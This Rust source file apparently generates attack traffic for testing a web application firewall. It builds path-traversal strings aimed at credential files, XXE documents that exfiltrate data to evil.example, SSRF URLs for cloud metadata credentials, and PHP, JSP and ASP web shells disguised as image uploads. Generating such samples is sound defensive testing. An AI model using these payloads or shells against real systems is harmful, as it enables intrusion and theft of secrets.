//! Attacks on files and addresses: traversal, external entities, forged requests, uploads, probes.

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, payload, request};
use super::super::codec;
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;
use super::super::wire::{Part, Wire, multipart};

const PATHS: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::PercentU,
    Encoding::Overlong,
    Encoding::Base64,
    Encoding::JsonEscape,
];
const PLAIN: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::JsonEscape, Encoding::Base64];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload(
        "traversal-unix",
        AttackClass::Traversal,
        90,
        traversal_unix,
        &[
            Place::Path,
            Place::Query,
            Place::Form,
            Place::Json,
            Place::Cookie,
            Place::Multipart,
            Place::Xml,
            Place::Header,
        ],
        PATHS,
    ),
    payload(
        "traversal-windows",
        AttackClass::Traversal,
        60,
        traversal_windows,
        &[Place::Query, Place::Form, Place::Json, Place::Path, Place::Multipart],
        PATHS,
    ),
    payload(
        "sensitive-files",
        AttackClass::Traversal,
        45,
        sensitive,
        &[Place::Query, Place::Form, Place::Json, Place::Path],
        PLAIN,
    ),
    request("xxe-external", AttackClass::Xxe, 70, xxe),
    payload("ssrf-metadata", AttackClass::Ssrf, 45, ssrf_metadata, Place::INPUTS, PLAIN),
    payload("ssrf-schemes", AttackClass::Ssrf, 45, ssrf_schemes, Place::INPUTS, PLAIN),
    request("upload-shells", AttackClass::Upload, 60, upload),
    request("scanner-agents", AttackClass::Scanner, 45, scanner),
];

fn traversal_unix(rng: &mut Rng) -> Vec<u8> {
    let depth = rng.between(3, 12);
    let target = rng.pick(&[
        "etc/passwd",
        "etc/shadow",
        "etc/hosts",
        "proc/self/environ",
        "root/.ssh/id_rsa",
        "var/log/apache2/access.log",
        "etc/nginx/nginx.conf",
        "proc/self/cmdline",
        "home/oracle/.bash_history",
        "etc/my.cnf",
    ]);
    let up = rng.pick(&["../", "../", "../", "....//", "..//", "./../", "..;/"]).repeat(depth);
    let end = rng.pick(&["", "", "\0.png", "\0", "/."]);
    let lead = rng.pick(&["", "", "/", "images/", "/var/www/html/"]);
    format!("{lead}{up}{target}{end}").into_bytes()
}

fn traversal_windows(rng: &mut Rng) -> Vec<u8> {
    let depth = rng.between(2, 10);
    let target = rng.pick(&[
        "windows\\win.ini",
        "boot.ini",
        "windows\\system32\\drivers\\etc\\hosts",
        "inetpub\\wwwroot\\web.config",
        "windows\\system32\\config\\sam",
        "Windows\\repair\\system",
    ]);
    let up = rng.pick(&["..\\", "..\\", "../", "..\\/", ".\\..\\", "....\\\\"]).repeat(depth);
    let lead = rng.pick(&["", "", "C:\\", "upload\\", "\\"]);
    let end = rng.pick(&["", "", "\0.jpg", "::$DATA"]);
    format!("{lead}{up}{target}{end}").into_bytes()
}

fn sensitive(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(3);
    match rng.below(14) {
        0 => "/etc/passwd".to_owned() + rng.pick(&["", "\0", "%00.html"]),
        1 => "file:///etc/passwd".to_owned() + rng.pick(&["", "#x", "?a"]),
        2 => "file:///c:/windows/win.ini".to_owned(),
        3 => format!("../{}WEB-INF/web.xml", "../".repeat(rng.below(4))),
        4 => format!("../WEB-INF/classes/{word}.properties"),
        5 => ".git/config".to_owned(),
        6 => format!("../{}.env", "../".repeat(rng.below(5))),
        7 => "/proc/self/environ".to_owned(),
        8 => format!("/proc/{}/fd/{}", rng.pick(&["self", "1"]), rng.below(20)),
        9 => "C:\\Windows\\win.ini".to_owned(),
        10 => "/var/log/nginx/access.log".to_owned(),
        11 => format!("../{}META-INF/MANIFEST.MF", "../".repeat(rng.below(3))),
        12 => "/root/.bash_history".to_owned(),
        _ => format!("php://filter/convert.base64-encode/resource=../{word}.php"),
    }
    .into_bytes()
}

fn xxe(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let (word, entity) = (rng.letters(4), rng.letters(3));
    let file = rng.pick(&[
        "file:///etc/passwd",
        "file:///c:/windows/win.ini",
        "http://169.254.169.254/latest/meta-data/",
        "php://filter/read=convert.base64-encode/resource=index.php",
        "file:///etc/hostname",
        "netdoc:/etc/passwd",
        "expect://id",
        "jar:http://evil.example/a.jar!/b",
    ]);
    let document = match rng.below(8) {
        0 | 1 => format!(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE {word} [<!ENTITY {entity} SYSTEM \"{file}\">]>\n<{word}><name>&{entity};</name></{word}>"
        ),
        2 => format!(
            "<!DOCTYPE {word} [<!ENTITY % {entity} SYSTEM \"http://evil.example/{word}.dtd\"> %{entity};]><{word}/>"
        ),
        3 => format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE {word} SYSTEM \"http://evil.example/{entity}.dtd\"><{word}>1</{word}>"
        ),
        4 => format!("<!DOCTYPE {word} PUBLIC \"-//A//B//EN\" \"{file}\"><{word}/>"),
        5 => format!(
            "<!DOCTYPE {word} [<!ENTITY % f SYSTEM \"{file}\"><!ENTITY % d \"<!ENTITY &#x25; {entity} SYSTEM 'http://evil.example/?%f;'>\"> %d; %{entity};]><{word}/>"
        ),
        6 => {
            let levels: String = (1..9)
                .map(|level| format!("<!ENTITY {entity}{level} \"{}\">", format!("&{entity}{};", level - 1).repeat(10)))
                .collect();
            format!(
                "<?xml version=\"1.0\"?><!DOCTYPE {word} [<!ENTITY {entity}0 \"{word}\">{levels}]><{word}>&{entity}8;</{word}>"
            )
        }
        _ => format!(
            "<{word} xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{file}\"/></{word}>"
        ),
    };
    let kind = rng.pick(&[
        "application/xml",
        "text/xml; charset=utf-8",
        "application/soap+xml",
        "application/json",
        "image/svg+xml",
        "text/plain",
    ]);
    let page =
        rng.pick(&["/services/HisService", "/api/import", "/wx/callback", "/xmlrpc.php", "/saml/acs", "/upload/svg"]);
    match rng.below(6) {
        0 => {
            let (kind, body) = multipart(
                &[Part::file("file", rng.pick(&["a.xml", "report.svg", "map.kml"]), "text/xml", document)],
                rng,
            );
            (Wire::post(page, &kind, body).desktop(rng).finish(rng), Place::Multipart, Encoding::Plain)
        }
        1 => (
            Wire::post(page, "application/x-www-form-urlencoded", format!("xml={}&type=1", codec::form(document)))
                .desktop(rng)
                .finish(rng),
            Place::Form,
            Encoding::Plain,
        ),
        2 => (
            Wire::post(page, "application/json", format!("{{\"xml\":{}}}", codec::json(document)))
                .desktop(rng)
                .finish(rng),
            Place::Json,
            Encoding::Plain,
        ),
        _ => (
            Wire::post(page, kind, document)
                .program(rng.pick(&["python-requests/2.31.0", "Java/1.8.0_202", "curl/8.4.0"]))
                .finish(rng),
            Place::Xml,
            Encoding::Plain,
        ),
    }
}

fn ssrf_metadata(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    match rng.below(9) {
        0 => format!("http://169.254.169.254/latest/meta-data/iam/security-credentials/{word}"),
        1 => format!("http://169.254.169.254/latest/user-data?{word}"),
        2 => format!("http://metadata.google.internal/computeMetadata/v1/instance/{word}"),
        3 => format!(
            "http://100.100.100.200/latest/meta-data/{}",
            rng.pick(&["ram/security-credentials/", "instance-id", "region-id", "hostname"])
        ),
        4 => format!("http://metadata.tencentyun.com/latest/meta-data/{word}"),
        5 => format!("http://169.254.169.254/metadata/instance?api-version=2021-02-01&{word}=1"),
        6 => format!("http://192.0.0.192/latest/{word}"),
        7 => format!("http://169.254.170.2/v2/credentials/{}", rng.uuid()),
        _ => format!("https://{word}@169.254.169.254:80/latest/meta-data/"),
    }
    .into_bytes()
}

fn ssrf_schemes(rng: &mut Rng) -> Vec<u8> {
    let (word, port) = (rng.letters(4), rng.pick(&["6379", "11211", "25", "9000", "3306", "2375"]));
    match rng.below(8) {
        0 => format!("gopher://127.0.0.1:{port}/_%2A1%0D%0A%248%0D%0A{word}%0D%0A"),
        1 => format!("dict://127.0.0.1:{port}/info:{word}"),
        2 => format!("file:///etc/passwd#{word}"),
        3 => format!("ldap://localhost:389/%0astats%0a{word}"),
        4 => format!("jar:http://evil.example/{word}.jar!/x"),
        5 => format!("tftp://evil.example:69/{word}"),
        6 => format!("netdoc:///etc/{}?{word}", rng.pick(&["passwd", "hosts"])),
        _ => format!("sftp://evil.example:{port}/{word}"),
    }
    .into_bytes()
}

fn upload(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let shells = [
        ("php", format!("<?php @eval($_POST['{word}']);?>")),
        ("php", format!("<?php system($_GET[\"{word}\"]); ?>")),
        ("jsp", format!("<%Runtime.getRuntime().exec(request.getParameter(\"{word}\"));%>")),
        (
            "jspx",
            format!(
                "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\"><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"{word}\"));</jsp:scriptlet></jsp:root>"
            ),
        ),
        ("asp", format!("<%eval request(\"{word}\")%>")),
        ("aspx", format!("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{word}\"],\"unsafe\");%>")),
        ("phtml", format!("GIF89a<?php assert($_REQUEST['{word}']);?>")),
        ("php.jpg", format!("<?php passthru($_GET['{word}']);?>")),
        ("php;.jpg", format!("<?php eval($_POST[{word}]);?>")),
    ];
    let (extension, content) = rng.pick(&shells.each_ref());
    let name = format!("{}{word}.{extension}", rng.pick(&["", "../", "..\\..\\"]));
    let kind = rng.pick(&["image/jpeg", "image/gif", "application/octet-stream", "text/plain"]);
    let content = if rng.chance(30) {
        [b"\xff\xd8\xff\xe0\x00\x10JFIF\x00".as_slice(), &rng.bytes(60), content.as_bytes()].concat()
    } else {
        content.clone().into_bytes()
    };
    let (content_type, body) = multipart(
        &[Part::field("type", "image"), Part::file(rng.pick(&["file", "Filedata", "upfile"]), &name, kind, content)],
        rng,
    );
    let page = rng.pick(&[
        "/upload.php",
        "/ueditor/controller.ashx?action=uploadimage",
        "/api/file/upload",
        "/kindeditor/upload_json.jsp?dir=file",
        "/UploadFile.aspx",
    ]);
    (Wire::post(page, &content_type, body).desktop(rng).finish(rng), Place::Multipart, Encoding::Plain)
}

fn scanner(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let agent = rng.pick(&[
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "gobuster/3.6",
        "dirbuster/1.0",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Fuzz Faster U Fool v2.1.0",
        "w3af.org",
        "Acunetix-Product",
        "feroxbuster/2.10.0",
    ]);
    let page = rng.pick(&["/", "/index.php?id=1", "/login", "/admin/", "/api/v1/users?id=2", "/robots.txt"]);
    (
        Wire::get(format!("{page}{}{}", if page.contains('?') { "&" } else { "?" }, rng.hex(5)))
            .program(agent)
            .finish(rng),
        Place::Header,
        Encoding::Plain,
    )
}
